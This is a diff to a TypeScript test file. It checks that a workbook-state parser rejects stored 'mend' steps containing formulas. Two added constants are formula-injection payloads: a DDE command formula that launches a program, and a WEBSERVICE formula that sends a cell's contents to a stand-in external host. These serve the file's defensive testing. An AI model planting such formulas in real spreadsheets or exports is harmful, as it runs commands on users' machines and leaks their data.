@@ -60,6 +60,9 @@ const EVERYTHING: Kept = {
   summaryOf: "abc-def",
 };
 
+const RUNS = "=cmd|'/C calc'!A0";
+const ASKS = '=WEBSERVICE("https://elsewhere.example/"&A1)';
+
 /** What is read back of a change to what was kept. */
 function after(change: Record<string, unknown>) {
   return parseKept(JSON.stringify({ ...EVERYTHING, ...change }));
@@ -87,11 +90,23 @@ describe("what is kept in a workbook", () => {
     ["a list that is none", { choices: "all" }, "choices"],
     ["a reason that is no text", { accepted: [{ ...EVERYTHING.accepted[0], reason: 7 }] }, "accepted"],
     ["a cell beyond the sheet", { mended: [stepAt(1_048_576)] }, "mended"],
+    ["a mend of a text that held a formula", { mended: [stepFrom("text to number", "=SUM(B3:B4)")] }, "mended"],
+    ["a mend that would write a formula to run", { mended: [stepFrom("total to formula", RUNS)] }, "mended"],
+    [
+      "a mend that would write a formula that asks a server",
+      { mended: [stepFrom("total to formula", ASKS)] },
+      "mended",
+    ],
     ["a mend of no kind", { mended: [{ ...EVERYTHING.mended[0], kind: "delete" }] }, "mended"],
   ])("leaves out %s, says so, and keeps the rest", (_what, change, part) => {
     const { kept, problems } = after(change);
     expect(kept).toEqual({ ...EVERYTHING, [part]: [] });
     expect(problems).toHaveLength(1);
+  });
+
+  test("holds what a total was before it became a sum, also a formula of the user's own", () => {
+    const step = stepFrom("total to formula", "=B3+B4*1.5");
+    expect(after({ mended: [step] })).toEqual({ kept: { ...EVERYTHING, mended: [step] }, problems: [] });
   });
 
   test.each([
@@ -126,6 +141,15 @@ describe("what is kept in a workbook", () => {
     expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined();
   });
 });
+
+function stepFrom(kind: string, before: string) {
+  const [step] = EVERYTHING.mended;
+  return {
+    ...step,
+    kind,
+    parts: step!.parts.map((part) => ({ ...part, cells: part.cells.map((cell) => ({ ...cell, before })) })),
+  };
+}
 
 function stepAt(row: number) {
   const [step] = EVERYTHING.mended;
